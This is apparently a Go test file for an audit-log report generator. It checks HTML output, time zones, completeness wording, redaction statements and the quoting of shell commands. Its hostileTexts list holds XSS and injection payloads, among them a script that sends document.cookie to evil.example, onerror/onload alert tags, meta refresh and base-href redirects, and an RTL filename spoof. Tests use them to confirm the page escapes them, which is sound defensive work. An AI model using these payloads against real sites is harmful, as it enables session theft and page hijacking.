// SPDX-License-Identifier: MPL-2.0

package report_test

import (
	"errors"
	"fmt"
	"html"
	"iter"
	"regexp"
	"strings"
	"testing"
	"time"

	"github.com/auditlogs/terraform-provider-audit/internal/auditlog"
	"github.com/auditlogs/terraform-provider-audit/internal/auditlog/auditlogtest"
	"github.com/auditlogs/terraform-provider-audit/internal/finding"
	"github.com/auditlogs/terraform-provider-audit/internal/redact"
	"github.com/auditlogs/terraform-provider-audit/internal/report"
)

// all yields the entries.
func all(entries ...auditlog.Entry) iter.Seq2[auditlog.Entry, error] {
	return func(yield func(auditlog.Entry, error) bool) {
		for _, e := range entries {
			if !yield(e, nil) {
				return
			}
		}
	}
}

// TestGolden has a page of everything that a page can say.
func TestGolden(t *testing.T) {
	t.Parallel()

	auditlogtest.Golden(t, "everything.html", everything(t))
}

func everything(t *testing.T) string {
	t.Helper()

	const n, days = 120, 5

	entries := generated(n, days)
	c := complete(n, days)
	c.Gaps = []auditlog.Window{{Start: begin.Add(26 * time.Hour), End: begin.Add(29*time.Hour + 30*time.Minute)}}
	c.Caveats = []string{"Addresses are masked, so that a filter on them may miss entries."}
	c.UnverifiedValues = []string{"actions: obliterate"}
	c.BeyondRetention, c.SecondPass = true, true
	c.Retention = 3 * 24 * time.Hour
	c.DuplicatesDropped, c.RowsFilteredOut, c.RowsFetched = 1, 2, n+3
	*c.ClockSkew = -90 * time.Second

	s := subject(t, entries, c)
	s.Asked.Query = auditlog.Query{
		Operations: []auditlog.Operation{"delete", "create"}, Actors: []string{"it's me"},
		Where: compile(t, `entry.actor != "x" && !entry.actor.startsWith("ci-")`),
	}
	s.Redaction = &redact.Statement{Rules: []redact.Rule{{Field: "ip_address", Mode: redact.Mask}}}
	s.Rules = []finding.Rule{{
		Name: "own", Severity: finding.SeverityLow, Condition: compile(t, `entry.origin == "gui"`), Threshold: 3,
		Within: new(time.Hour), GroupBy: []string{"actor"},
	}}
	s.Result.CountsByRule["own"] = 0
	s.Pipeline = report.Pipeline{
		Query: auditlog.Query{Actors: []string{"terraform-ci"}}, AuthTypes: []string{"api"}, Runs: []string{"then/now"},
	}
	s.Drift = driftOf(entries, texts{
		address: `module.eu["a"].upcloud_server.web`, id: "00798b85-efdc-41ca-8021-f6ef457b8531", name: "web-1",
		field: "plan", value: `"2xCPU-4GB"`, kind: "upcloud_router", action: "rebalance",
	})

	return write(t, s, entries)
}

// TestGoldenHostile has a page whose texts want to be something else.
func TestGoldenHostile(t *testing.T) {
	t.Parallel()

	entries := hostile()
	auditlogtest.Golden(t, "hostile.html", write(t, hostileSubject(t), all(entries...)))
}

// TestHostileTextsStayTexts looks for what a page may only have of its own.
func TestHostileTextsStayTexts(t *testing.T) {
	t.Parallel()

	page := write(t, hostileSubject(t), all(hostile()...))

	for what, n := range map[string]int{
		"<script": 1, "</script": 1, "<style": 1, "</style": 1, "<meta": 5, "<form": 1, "<!--": 0,
		"<img": 0, "<iframe": 0, "<link": 0, "<base": 0,
	} {
		if got := strings.Count(strings.ToLower(page), what); got != n {
			t.Errorf("%s is there %d times", what, got)
		}
	}

	// No text has a bracket of its own, so this finds all tags and nothing else.
	for _, tag := range regexp.MustCompile("<[A-Za-z][^<>]*>").FindAllString(page, -1) {
		for _, a := range regexp.MustCompile(`\s(on[a-z]+|style|src|srcset|action|formaction)=`).FindAllString(tag, -1) {
			t.Errorf("the attribute%s in %s", a, tag)
		}
	}

	for _, link := range regexp.MustCompile(`href="([^"]*)"`).FindAllStringSubmatch(page, -1) {
		if !strings.HasPrefix(link[1], "#") {
			t.Errorf("a link to %s", link[1])
		}
	}

	for i, r := range page {
		if r < ' ' && r != '\n' || r >= 0x7f && r < 0xa0 || r >= 0x202a && r <= 0x202e || r >= 0x2066 && r <= 0x2069 {
			t.Errorf("the character %U at %d", r, i)
		}
	}
}

// hostileTexts are names that somebody could give to what a log names.
func hostileTexts() []string {
	return []string{
		`<script>fetch("https://evil.example/"+document.cookie)</script>`,
		`"><img src=x onerror=alert(1)>`, `</title></style></script><iframe src="https://evil.example"></iframe>`,
		`' onmouseover='alert(1)`, `javascript:alert(1)`, `{{.Secret}} ${7*7} <%= 7*7 %>`,
		"\u202egnp.exe", "zero\u200bwidth\u200d", "bell\x07 escape\x1b[31m nul\x00", "line\nbreak\r\tand tab",
		"<!-- comment", "--><svg onload=alert(1)>", "&lt;b&gt; &amp;amp;", "]]><![CDATA[", "\xff\xfe not UTF-8",
		"עברית أسماء 日本語 🚀", strings.Repeat("long ", 400), `<base href="https://evil.example/">`,
		`<meta http-equiv="refresh" content="0;url=https://evil.example">`, "@import url(https://evil.example);",
	}
}

func hostile() []auditlog.Entry {
	var entries []auditlog.Entry

	for i, text := range hostileTexts() {
		e := auditlog.Entry{
			ID: fmt.Sprintf("%d %s", i, text), Time: begin.Add(time.Duration(i) * time.Minute), Service: "upcloud",
			Action: text, Operation: auditlog.Operation(text),
			ActorType: auditlog.ActorType(text), ActorID: text + "id", Actor: text,
			ResourceType: text, ResourceID: text + "id", ResourceName: text, Origin: text, IPAddress: text, Message: text,
			Changes: []auditlog.Change{{Field: text, Before: &text, After: nil}},
		}
		entries = append(entries, e)

		e.ID, e.Operation, e.ActorType = "deleted "+e.ID, auditlog.OperationDelete, auditlog.ActorUser
		entries = append(entries, e)
	}

	return append(entries, auditlogtest.Hostile()...)
}

func hostileSubject(t *testing.T) *report.Subject {
	t.Helper()

	entries := hostile()
	c := complete(len(entries), 30)
	c.Caveats, c.UnverifiedValues, c.UnknownActions = hostileTexts(), hostileTexts(), hostileTexts()
	c.UnknownMatters = true

	s := subject(t, all(entries...), c)
	text := strings.Join(hostileTexts()[:6], " ")
	s.Source = auditlog.Source{Service: text, Endpoint: text, Account: text}
	s.Info.Title, s.File, s.Tool, s.Destination = text, text, text, text
	s.Asked.Query = auditlog.Query{Actors: hostileTexts(), Search: text}
	s.Asked.AsWritten.Last = text
	s.KeptAs = &report.Kept{Name: text, SHA256: text, ManifestSHA256: text}
	s.Pipeline = report.Pipeline{
		Query: auditlog.Query{Actors: []string{text}}, AuthTypes: []string{text}, Runs: []string{text},
	}
	s.Drift = driftOf(all(entries...), texts{text, text, text, text, text, text, text})

	return s
}

// TestSamePage makes one page twice.
func TestSamePage(t *testing.T) {
	t.Parallel()

	s := func() *report.Subject { return subject(t, generated(3000, 40), complete(3000, 40)) }

	if a, b := write(t, s(), generated(3000, 40)), write(t, s(), generated(3000, 40)); a != b {
		t.Error("two pages of the same entries differ")
	}
}

// TestEveryEntryIsThere counts lines and ids.
func TestEveryEntryIsThere(t *testing.T) {
	t.Parallel()

	for _, n := range []int{0, 1, 199, 200, 201, 1000} {
		entries := generated(max(n, 1), 3)
		if n == 0 {
			entries = all()
		}

		page := write(t, subject(t, entries, complete(n, 3)), entries)
		_, table, _ := strings.Cut(page, `id="entries"`)
		lines := strings.Count(table, "\n<tr>") + strings.Count(table, "\n<tr class=")

		if lines != n {
			t.Errorf("%d entries have %d lines", n, lines)
		}

		for i := range n {
			if !strings.Contains(table, fmt.Sprintf("<td>01K%023d\n", i)) {
				t.Errorf("of %d entries, %d is missing", n, i)
			}
		}
	}
}

// TestChangedEntries makes a page of entries that are not the same when they are read
// again.
func TestChangedEntries(t *testing.T) {
	t.Parallel()

	broken := errors.New("broken")

	for name, tt := range map[string]struct {
		again iter.Seq2[auditlog.Entry, error]
		want  error
	}{
		"fewer": {generated(99, 3), report.ErrChanged},
		"more":  {generated(101, 3), report.ErrChanged},
		"an error": {func(yield func(auditlog.Entry, error) bool) {
			yield(auditlog.Entry{}, broken)
		}, broken},
	} {
		t.Run(name, func(t *testing.T) {
			t.Parallel()

			var b strings.Builder

			p := report.NewPage(&b, subject(t, generated(100, 3), complete(100, 3)),
				func() iter.Seq2[auditlog.Entry, error] { return tt.again })

			for e := range generated(100, 3) {
				if err := p.Encode(&e); err != nil {
					t.Fatal(err)
				}
			}

			if err := p.Close(); !errors.Is(err, tt.want) {
				t.Errorf("got %v", err)
			}
		})
	}
}

// TestSentence has what the first page says of completeness.
func TestSentence(t *testing.T) {
	t.Parallel()

	const between = "between 2026-03-04 00:00:00 UTC and 2026-03-07 00:00:00 UTC, because "

	for name, tt := range map[string]struct {
		change func(*report.Subject)
		want   string
	}{
		"a total": {
			func(*report.Subject) {},
			"Nothing is missing " + between + "as many different records came as UpCloud said there are (10).",
		},
		"a filter": {
			func(s *report.Subject) { s.Asked.Query.Search = "x" },
			"Nothing that was asked for is missing " + between + "as many different records came as UpCloud said there are (10).",
		},
		"a cursor": {
			func(s *report.Subject) { s.Completeness.Proof, s.Info.Title = auditlog.ProofCursor, "cloudscale" },
			"Nothing is missing " + between + "the list of cloudscale was followed to its end.",
		},
		"an archive": {
			func(s *report.Subject) {
				s.Completeness.Proof, s.Info.Title = auditlog.ProofChain, "UpCloud's archive"
				s.Completeness.Gaps = []auditlog.Window{{Start: begin, End: begin.Add(90 * time.Minute)}}
			},
			"Something may be missing " + between + "UpCloud's archive holds nothing about 1 part of this time, 1 hour 30 minutes in all; " +
				"what the log does hold was read in full, since every segment and every manifest of UpCloud's archive is what its chain of hashes says.",
		},
		"an export": {
			func(s *report.Subject) { s.KeptAs = &report.Kept{Name: "a.ndjson"} },
			"Nothing is missing " + between + "as many different records came as UpCloud said there are (10), " +
				"as the manifest of the export says, which describes this very data.",
		},
		"exports of a console": {
			func(s *report.Subject) {
				s.Completeness.Proof, s.Completeness.UnverifiedValues = auditlog.ProofExports, []string{"actions: x", "origins: y"}
			},
			"Something may be missing " + between + "nothing confirms that entries have 2 values that were asked for; " +
				"what the log does hold was read in full, since every record in the exports of UpCloud's console was read.",
		},
		"no proof": {
			func(s *report.Subject) { s.Completeness.Proof = "" },
			"Something may be missing " + between + "nothing proves that the log was read in full.",
		},
		"retention and actions": {
			func(s *report.Subject) {
				s.Completeness.BeyondRetention, s.Completeness.UnknownMatters = true, true
				s.Completeness.UnknownActions = []string{"x"}
			},
			"Something may be missing " + between + "UpCloud keeps entries for 180 days, and this time begins before that, " +
				"and because 1 action in the log is not known to mean any operation; " +
				"what the log does hold was read in full, since as many different records came as UpCloud said there are (10).",
		},
	} {
		t.Run(name, func(t *testing.T) {
			t.Parallel()

			s := subject(t, generated(10, 3), complete(10, 3))
			s.Completeness.UnknownMatters = false // Of the rules, which is not what this is about.
			tt.change(s)

			m := regexp.MustCompile(`<p class="sentence">(.*)</p>`).FindStringSubmatch(write(t, s, generated(10, 3)))
			if got := strings.ReplaceAll(m[1], "&#39;", "'"); got != tt.want {
				t.Errorf("got  %s\nwant %s", got, tt.want)
			}
		})
	}
}

// TestZone shows times in another zone, in a week in which its clocks change.
func TestZone(t *testing.T) {
	t.Parallel()

	zone, err := time.LoadLocation("Europe/Zurich")
	if err != nil {
		t.Skip(err)
	}

	at := time.Date(2026, 3, 29, 0, 30, 0, 0, time.UTC) // half an hour before
	e := auditlogtest.Entry("a", func(e *auditlog.Entry) { e.Time = at })
	l := auditlogtest.Entry("b", func(e *auditlog.Entry) { e.Time = at.Add(time.Hour) })

	c := complete(2, 1)
	c.Window = auditlog.Window{Start: at.AddDate(0, 0, -4), End: at.AddDate(0, 0, 4)}

	s := subject(t, all(e, l), c)
	s.Zone = zone
	page := write(t, s, all(e, l))

	for _, want := range []string{
		"2026-03-29 01:30:00 &#43;01:00", "2026-03-29 03:30:00 &#43;02:00",
		"Europe/Zurich, UTC&#43;01:00 and UTC&#43;02:00",
	} {
		if !strings.Contains(page, want) {
			t.Errorf("%s is not there", want)
		}
	}
}

// TestZoneWithinTheWindow has windows whose offset is another one only in their middle, and an hour that comes twice.
func TestZoneWithinTheWindow(t *testing.T) {
	t.Parallel()

	zone, err := time.LoadLocation("Europe/Zurich")
	if err != nil {
		t.Fatal(err)
	}

	at := time.Date(2026, 10, 25, 0, 30, 0, 0, time.UTC)
	e := auditlogtest.Entry("a", func(e *auditlog.Entry) { e.Time = at })
	l := auditlogtest.Entry("b", func(e *auditlog.Entry) { e.Time = at.Add(time.Hour) })

	for _, length := range []time.Duration{12 * time.Hour, 365 * 24 * time.Hour} {
		c := complete(2, 1)
		c.Window = auditlog.Window{Start: at.Add(-length), End: at.Add(length)}

		s := subject(t, all(e, l), c)
		s.Zone = zone
		page := write(t, s, all(e, l))

		for _, want := range []string{
			"on this page are in Europe/Zurich, UTC&#43;02:00 and UTC&#43;01:00.",
			`<td class="when">2026-10-25 02:30 &#43;02:00</td><td class="when">2026-10-25 02:30 &#43;01:00</td>`,
		} {
			if !strings.Contains(page, want) {
				t.Errorf("%s is not there", want)
			}
		}

		for row, n := range rowsOfChart(page) {
			if n > 1 {
				t.Errorf("%d columns are called %s", n, row)
			}
		}
	}
}

// rowsOfChart counts the names of columns.
func rowsOfChart(page string) map[string]int {
	rows := map[string]int{}
	for _, m := range regexp.MustCompile(`<tr><th scope="row">(20[^<]*)</th>`).FindAllStringSubmatch(page, -1) {
		rows[m[1]]++
	}

	return rows
}

// TestCommandsAskTheSame has values that a shell, or the command, would take for something else.
func TestCommandsAskTheSame(t *testing.T) {
	t.Parallel()

	s := subject(t, all(), complete(0, 1))
	s.File = "-r.html"
	s.Info.Name = auditlog.ServiceArchive
	s.Asked.Query = auditlog.Query{Actors: []string{"Doe, John", "-x"}, Search: "--redact", Where: compile(t, `entry.actor in ["a", "b"]`)}

	page := html.UnescapeString(write(t, s, all()))
	for _, want := range []string{
		`--actors 'Doe\, John' --actors=-x --search=--redact --where 'entry.actor in ["a", "b"]' `,
		"sha256sum -c ./-r.html.sha256", "auditlog verify ./-r.html<", "--service archive --destination PLACE --start",
	} {
		if !strings.Contains(page, want) {
			t.Errorf("%s is not there", want)
		}
	}
}

// TestWhatWasTakenOutBefore names what an archive had lost before it was read, and does not count people who look
// alike.
func TestWhatWasTakenOutBefore(t *testing.T) {
	t.Parallel()

	nameless := auditlogtest.Entry("a", func(e *auditlog.Entry) {
		e.Time, e.ActorType, e.Actor, e.ActorID = begin, auditlog.ActorUser, "", ""
	})
	masked := auditlogtest.Entry("b", func(e *auditlog.Entry) {
		e.Time, e.ActorType, e.Actor, e.ActorID = begin, auditlog.ActorUser, "***", ""
	})
	rules := func(mode string) *redact.Statement {
		return &redact.Statement{Rules: []redact.Rule{{Field: "actor", Mode: mode}}}
	}

	for name, tt := range map[string]struct {
		entry  auditlog.Entry
		change func(*report.Subject)
		people string
		want   string
	}{
		"all there": {masked, func(*report.Subject) {}, "1", "Nothing was taken out of the entries."},
		"no name":   {nameless, func(*report.Subject) {}, "1+", "Nothing was taken out of the entries."},
		"masked":    {masked, func(s *report.Subject) { s.Redaction = rules(redact.Mask) }, "1+", "actor: masked."},
		"dropped":   {nameless, func(s *report.Subject) { s.Redaction = rules(redact.Drop) }, "1+", "actor: left out."},
		"hashed":    {masked, func(s *report.Subject) { s.Redaction = rules(redact.Hash) }, "1", "actor: shown as pseudonyms."},
		"kept":      {masked, func(s *report.Subject) { s.Redaction = rules(redact.Keep) }, "1", "Nothing was taken out"},
		"an archive": {masked, func(s *report.Subject) {
			s.Info.Name = auditlog.ServiceArchive
			s.Info.Redacted, s.Info.RedactedInPart = []string{"ip_address"}, []string{"actor"}
		}, "1+", "ip_address: left out, masked or replaced before it was archived; " +
			"actor: of some entries left out, masked or replaced before they were archived."},
		"an export of an archive": {masked, func(s *report.Subject) {
			s.Info.Name, s.KeptAs = auditlog.ServiceArchive, &report.Kept{Name: "x"}
		}, "1+", "since the export does not tell."},
	} {
		t.Run(name, func(t *testing.T) {
			t.Parallel()

			s := subject(t, all(tt.entry), complete(1, 1))
			tt.change(s)

			page := write(t, s, all(tt.entry))
			people := "<dt>user account</dt><dd>" + strings.ReplaceAll(tt.people, "+", "&#43;") + "</dd>"
			for _, want := range []string{people, tt.want} {
				if !strings.Contains(page, want) {
					t.Errorf("%s is not there", want)
				}
			}
		})
	}
}
